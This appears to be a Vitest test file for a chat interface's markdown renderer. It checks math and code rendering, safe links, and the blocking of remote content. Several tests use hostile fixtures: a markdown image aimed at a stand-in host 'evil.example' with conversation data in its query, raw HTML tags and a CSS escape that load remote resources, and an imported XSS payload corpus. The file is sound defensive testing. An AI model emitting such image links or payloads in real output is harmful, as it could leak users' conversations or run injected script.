import { beforeAll, describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from './engine';
import type { MarkdownRenderer } from './engine';
import { XSS_CORPUS } from '../../test/xss-corpus';

let renderer: MarkdownRenderer;
beforeAll(() => {
  renderer = createMarkdownRenderer({ copy: 'Copy', remoteImage: 'Image from {host}' });
});

function mount(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('markdown engine', () => {
  it('renders markdown, math and highlighted code with a copy button', () => {
    const html = renderer.renderBlock('# Hi\n\nInline \\(a^2\\) and $b$.\n\n```python\nprint("x")\n```');
    const root = mount(html);
    expect(root.querySelector('h1')?.textContent).toBe('Hi');
    expect(root.querySelectorAll('.katex').length).toBe(2);
    expect(root.querySelector('pre code.language-python .hljs-built_in')).not.toBeNull();
    expect(root.querySelector('button.cc-copy')?.getAttribute('aria-label')).toBe('Copy');
  });

  it('renders display math and keeps "$5 and $6" as text', () => {
    const root = mount(renderer.renderBlock('$$\n\\frac{1}{2}\n$$\n\nIt costs $5 and $6.'));
    expect(root.querySelector('.katex-block .katex-display')).not.toBeNull();
    expect(root.textContent).toContain('$5 and $6');
  });

  it('opens links in a new tab without opener and turns sandbox links inert', () => {
    const root = mount(renderer.renderBlock('[a](https://example.com) [f](sandbox:/mnt/data/x.csv)'));
    const link = root.querySelector('a[href="https://example.com"]');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noopener');
    const sandbox = root.querySelector('[data-sandbox-path]');
    expect(sandbox?.getAttribute('data-sandbox-path')).toBe('/mnt/data/x.csv');
    expect(sandbox?.getAttribute('href')).toBe('#');
    expect(sandbox?.hasAttribute('target')).toBe(false);
  });

  it('shows an image from another host as a placeholder naming the host, with no img', () => {
    const root = mount(
      renderer.renderBlock(
        '![secret](https://evil.example/leak.png?q=conversation) ![x](//other.example/a.png) ' +
          '[![linked](http://third.example/b.png)](https://example.com)',
      ),
    );
    expect(root.querySelector('img')).toBeNull();
    const buttons = [...root.querySelectorAll('button.cc-remote-image')];
    expect(buttons.map((b) => b.textContent)).toEqual([
      'Image from evil.example',
      'Image from other.example',
      'Image from third.example',
    ]);
    expect(buttons[0]?.getAttribute('type')).toBe('button');
    expect(buttons[0]?.getAttribute('data-remote-image')).toBe(
      'https://evil.example/leak.png?q=conversation',
    );
    expect(buttons[0]?.getAttribute('data-remote-alt')).toBe('secret');
  });

  it('keeps raw HTML from loading anything from another host either', () => {
    const root = mount(
      renderer.renderBlock(
        '<img src="https://evil.example/a.png"> <IMG SRC=https://evil.example/b.png> <image src="https://evil.example/c.png">' +
          '<picture><source srcset="https://evil.example/d.png"><img src="https://evil.example/e.png"></picture>' +
          '<video poster="https://evil.example/f.png" src="https://evil.example/g.mp4"></video>' +
          '<audio src="https://evil.example/h.mp3"></audio><table background="https://evil.example/i.png"><tr><td>x</td></tr></table>' +
          '<span class="katex" style="background:url(https://evil.example/j.png)">k</span>' +
          '<span class="katex" style="background:u\\72l(https://evil.example/k.png)">k</span>' +
          '<a href="https://example.com" ping="https://evil.example/l">l</a>',
      ),
    );
    expect(root.querySelectorAll('img')).toHaveLength(0);
    expect(root.querySelectorAll('button.cc-remote-image')).toHaveLength(4);
    // Nothing left in the markup would fetch from the other host by itself: it survives only as a placeholder's data.
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        if (attr.name !== 'data-remote-image') expect(attr.value).not.toContain('evil.example');
      }
    }
  });

  it("loads images from the product's own file routes, data: images and same-origin blob: URLs", () => {
    const own = `${window.location.origin}/api/files/local/download/0b8f`;
    const blob = `blob:${window.location.origin}/4c1e`;
    const root = mount(
      renderer.renderBlock(
        `![a](/api/files/openai-web/file-abc/content) ![b](${own}) ![c](data:image/png;base64,iVBORw0KGgo=) ` +
          `<img src="${blob}" alt="d"> ![e](/api/user/me) <img src="blob:https://evil.example/x" alt="f">`,
      ),
    );
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      '/api/files/openai-web/file-abc/content',
      own,
      'data:image/png;base64,iVBORw0KGgo=',
      blob,
      null,
    ]);
    // A same-origin URL that is not a file route is a placeholder too (no request to the API by viewing).
    expect([...root.querySelectorAll('button.cc-remote-image')].map((b) => b.textContent)).toEqual([
      `Image from ${window.location.host}`,
    ]);
  });

  it.each(XSS_CORPUS)('sanitises %s', (payload) => {
    const root = mount(renderer.renderBlock(payload));
    for (const el of root.querySelectorAll('*')) {
      expect(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'STYLE']).not.toContain(el.tagName);
      for (const attr of el.attributes) {
        expect(attr.name.startsWith('on')).toBe(false);
        if (attr.name === 'href' || attr.name === 'src' || attr.name === 'action' || attr.name === 'data') {
          expect(attr.value.replace(/\s/g, '').toLowerCase()).not.toMatch(/^(javascript|data:text\/html)/);
        }
        if (attr.name === 'style') expect(el.closest('.katex')).not.toBeNull();
      }
    }
  });

  it('memoises finished blocks', () => {
    const a = renderer.renderFinishedBlock('**same**');
    expect(renderer.renderFinishedBlock('**same**')).toBe(a);
  });
});
